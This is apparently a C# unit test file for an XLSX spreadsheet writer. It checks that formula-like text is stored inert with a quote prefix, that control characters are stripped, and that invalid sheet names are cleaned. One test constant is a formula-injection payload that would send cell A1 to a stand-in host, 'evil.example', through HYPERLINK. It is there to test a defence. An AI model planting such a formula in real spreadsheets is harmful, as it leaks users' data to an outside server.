using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using Screener.Core.Exports;

namespace Screener.Core.Tests.Exports;

public sealed class XlsxWriterTests
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    [Fact]
    public void Text_is_never_a_formula_reads_back_exactly_and_formula_like_text_carries_the_quote_prefix_style()
    {
        using var file = new MemoryStream();
        XlsxWriter.Write(file, "records", ["text", "number", "flag"],
        [
            [Formula, -0.5, true],
            ["@SUM(A1)", 3, false],
            ["plain text", null, null],
            ["ctrl\u0001char\uD800", 12345678901L, null],
        ]);

        file.Position = 0;
        using var document = SpreadsheetDocument.Open(file, false);
        Assert.Empty(new OpenXmlValidator().Validate(document));
        var workbook = document.WorkbookPart!;
        Assert.Equal("records", workbook.Workbook.Descendants<Sheet>().Single().Name!.Value);
        var formats = workbook.WorkbookStylesPart!.Stylesheet.CellFormats!.Elements<CellFormat>().ToList();
        var rows = workbook.WorksheetParts.Single().Worksheet.Descendants<Row>().Select(r => r.Elements<Cell>().ToList()).ToList();
        Assert.Empty(workbook.WorksheetParts.Single().Worksheet.Descendants<CellFormula>());

        bool QuotePrefixed(Cell c) => c.StyleIndex is { } i && formats[(int)i.Value].QuotePrefix?.Value == true;
        string? Text(Cell c) => c.DataType?.Value == CellValues.InlineString ? c.InlineString!.Text!.Text : null;
        Assert.Equal(["text", "number", "flag"], rows[0].Select(Text));
        Assert.Equal([Formula, "@SUM(A1)", "plain text", "ctrlchar"], rows.Skip(1).Select(r => Text(r[0])));
        Assert.Equal([true, true, false, false], rows.Skip(1).Select(r => QuotePrefixed(r[0])));
        Assert.Equal((CellValues.Number, "-0.5", false), (rows[1][1].DataType!.Value, rows[1][1].CellValue!.Text, QuotePrefixed(rows[1][1])));
        Assert.Equal((CellValues.Boolean, "1"), (rows[1][2].DataType!.Value, rows[1][2].CellValue!.Text));
        Assert.Equal("12345678901", rows[4][1].CellValue!.Text);
    }

    [Fact]
    public void A_sheet_name_Excel_would_refuse_is_cleaned()
    {
        using var file = new MemoryStream();
        XlsxWriter.Write(file, "a/b:c*[d]?e\\ and a name much longer than thirty-one", ["x"], []);

        file.Position = 0;
        using var document = SpreadsheetDocument.Open(file, false);
        Assert.Equal("abcde and a name much longer th", document.WorkbookPart!.Workbook.Descendants<Sheet>().Single().Name!.Value);
    }
}
